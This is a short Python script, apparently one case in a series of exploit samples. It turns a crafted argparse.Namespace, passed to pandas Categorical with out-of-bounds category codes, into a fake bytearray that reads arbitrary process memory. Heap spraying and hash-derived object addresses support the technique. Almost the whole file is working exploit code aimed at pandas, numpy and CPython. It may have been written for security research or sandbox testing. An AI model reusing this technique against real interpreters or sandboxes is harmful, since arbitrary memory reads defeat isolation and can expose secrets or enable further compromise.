# source: same as 026
# family: same family, _codes made 'the script's own' only by self._codes in an unrelated class
# goal: arbitrary memory read through a fake bytearray
import argparse
import numpy as np
import pandas as pd

MASK = (1 << 64) - 1


def addr_of(t):
    h = hash(t) & MASK
    return ((h << 4) | (h >> 60)) & MASK


N = 3000


class Ledger:
    def __init__(self):
        self._codes = []


class Cat(argparse.Namespace):
    def __iter__(self):
        return iter(self.items)


class Holder:
    __slots__ = ("a0", "a1", "a2", "a3", "a4", "a5", "a6")


big = bytes(1 << 21)
holder = Holder()
holder.a0 = big
holder.a1 = bytearray
holder.a2 = big
holder.a3 = big
names = [f"c{i}" for i in range(N)]
values = np.empty(N, dtype=object)
spray = np.full(N, addr_of(holder) + 16, dtype=np.int64)
values[:] = names
dt = pd.CategoricalDtype(values)
ns = Cat(dtype=dt, _codes=np.array([0, N + 2 + N // 2], dtype=np.int64), items=[])
c = pd.Categorical(ns)
print("codes:", c.codes, "categories:", len(c.categories))
f = np.asarray(c)[1]
print(type(f), len(f) > 10**12)
base = addr_of(int)
p = int.from_bytes(bytes(f[base + 24:base + 32]), "little")
print("tp_name of int read from memory:", bytes(f[p:p + 3]))
